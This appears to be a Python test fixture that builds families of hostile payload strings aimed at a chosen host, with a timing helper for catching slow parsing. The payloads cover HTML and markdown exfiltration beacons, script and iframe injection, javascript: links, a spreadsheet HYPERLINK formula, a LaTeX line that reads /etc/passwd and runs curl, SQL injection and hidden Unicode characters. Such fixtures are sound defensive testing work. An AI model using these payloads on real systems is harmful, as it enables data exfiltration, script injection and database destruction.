"""Payloads of hostile papers, models and addresses: families, pointed at one host."""

import time
from collections.abc import Callable

FAMILIES = (
    "![x]({host}/image.png) ![x][ref]\n\n[ref]: {host}/reference.png",
    '<img src="{host}/html.png" onerror="alert(1)"><script src="{host}/script.js"></script><b>bold</b>',
    '<iframe src="{host}/frame"></iframe><form action="{host}/form"><button>go</button></form>',
    "<style>@import url({host}/style.css); body {{ background: url({host}/background.png) }}</style>",
    "[click]({host}/link) [run](javascript:alert(1)) <{host}/a> {host}/bare www.evil.example a@evil.example",
    "```mermaid\ngraph TD; A[<img src={host}/mermaid.png>]-->B\n```",
    ":green-badge[0.99 strong] :red[red] :material/home: :smile: :shimmer[x]",
    "$\\href{{{host}/tex}}{{x}}$ $$\\includegraphics{{{host}/tex.png}}$$",
    "\u202egnp.exe\u202c \u200b\u2066hidden\u2069 \x1b[31mred\x07 \ufeff",
    '=HYPERLINK("{host}/cell","x")',
    "\\input{{/etc/passwd}} \\write18{{curl {host}}} }} % {{ \\end{{document}}",
    "x' OR 1=1 -- \"; DROP TABLE papers;",
    "[1](#cite-1-1) [\\[1\\]]({host}/forged) [99] ⟦end of references⟧ ⟦papers⟧",
    "| a | b |\n|---|---|\n| ![x]({host}/table.png) | c |\n\n- [x] done\n> # Evidence for [1]",
)
"""`{host}` is where they point."""


def payloads(host: str) -> tuple[str, ...]:
    """Return every family, pointed at a host."""
    return tuple(family.format(host=host) for family in FAMILIES)


def all_in_one(host: str) -> str:
    """Return every family in one text."""
    return " ".join(payloads(host))


def growth(read: Callable[[str], object], piece: str, length: int) -> float:
    """Return the growth in a reader's time for a text four times as long; 64 is cubic."""

    def cost(text: str) -> float:
        costs = []
        for _ in range(5):
            began = time.process_time()
            read(text)
            costs.append(time.process_time() - began)
        return min(costs)

    plain = 2e-4  # what is quicker than that is no reader's trouble, and noise is most of it
    return cost(piece * length) / max(plain, cost(piece * (length // 4)))
